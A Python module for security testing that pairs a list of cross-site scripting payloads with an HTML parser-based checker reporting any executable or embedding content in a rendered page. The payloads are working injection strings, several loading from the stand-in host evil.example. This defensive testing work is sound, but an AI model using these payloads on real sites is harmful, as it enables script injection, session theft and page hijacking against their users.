"""An XSS corpus and an HTML checker that says whether a page would run any of it.

``PAYLOADS`` are strings a hostile user types into any text field. ``active_content``
parses a rendered page with the standard library's HTML parser (as a browser's
tokenizer would see the tags) and lists everything that could execute: a <script>
that is not one of ours, any ``on*=`` attribute, ``javascript:``/``vbscript:``/
``data:`` URLs in link attributes, ``style`` attributes or elements, and embedding
elements (iframe, object, embed, base, meta refresh, form posting elsewhere).
"""

from __future__ import annotations

from html.parser import HTMLParser

MARKER = "xss"  # every payload mentions it, so a finding can be traced to input

PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert('xss')>",
    "<svg onload=alert('xss')>",
    "<svg><script>alert('xss')</script></svg>",
    "<body onload=alert('xss')>",
    "<iframe src=javascript:alert('xss')></iframe>",
    '"><script>alert("xss")</script>',
    "' onmouseover='alert(1)' data-x='xss",
    '" onfocus="alert(1)" autofocus x="xss',
    "</textarea><script>alert('xss')</script>",
    "</title><script>alert('xss')</script>",
    "javascript:alert('xss')",
    "JaVaScRiPt:alert('xss')",
    " javascript:alert('xss')",
    "[click](javascript:alert('xss'))",
    "[click](JAVASCRIPT:alert('xss'))",
    "<a href=\"javascript:alert('xss')\">x</a>",
    "<div style=\"background:url(javascript:alert('xss'))\">xss</div>",
    "<div style=\"width: expression(alert('xss'))\">xss</div>",
    "<style>@import 'https://evil.example/xss.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss</object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<base href="https://evil.example/">xss',
    "<form action=https://evil.example><button>xss</button></form>",
    "{{ 7 * 7 }} {% raw %}xss{% endraw %}",  # template injection must stay text
    "\u202e<script>alert('xss')</script>",  # right-to-left override
    "\uff1cscript\uff1ealert('xss')\uff1c/script\uff1e",  # full-width angle brackets
    "<scr\x00ipt>alert('xss')</scr\x00ipt>",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",  # already-escaped must not be unescaped
    "<a href=\"&#106;avascript:alert('xss')\">xss</a>",
    "<!--<script>alert('xss')</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\">",
)

_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
_EMBEDDING = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Checker(HTMLParser):
    def __init__(self, own_scripts: tuple[str, ...]) -> None:
        super().__init__(convert_charrefs=True)
        self.own_scripts = own_scripts
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name.lower(): (value or "") for name, value in attrs}
        where = f"line {self.getpos()[0]}"
        if tag == "script":
            src = values.get("src", "")
            if not src.startswith(self.own_scripts):
                self.found.append(f"{where}: <script src={src!r}>")
        if tag in _EMBEDDING:
            self.found.append(f"{where}: <{tag}>")
        if tag == "style":
            self.found.append(f"{where}: <style>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.found.append(f"{where}: <meta refresh>")
        if tag == "form" and values.get("action", "/").startswith(("http:", "https:", "//")):
            self.found.append(f"{where}: form posting to {values['action']!r}")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"{where}: <{tag} {name}=...>")
            if name == "style":
                self.found.append(f"{where}: <{tag} style=...>")
            # Browsers ignore leading spaces and control characters in URLs.
            squeezed = "".join(ch for ch in value if ch > " ").lower()
            if name in _URL_ATTRS and squeezed.startswith(_BAD_SCHEMES):
                self.found.append(f"{where}: <{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def active_content(html: str, own_scripts: tuple[str, ...] = ("/static/",)) -> list[str]:
    """Everything in ``html`` that a browser could execute or that embeds other content.

    Scripts whose ``src`` starts with one of ``own_scripts`` (the app's own files)
    are allowed.
    """
    checker = _Checker(own_scripts)
    checker.feed(html)
    checker.close()
    return checker.found
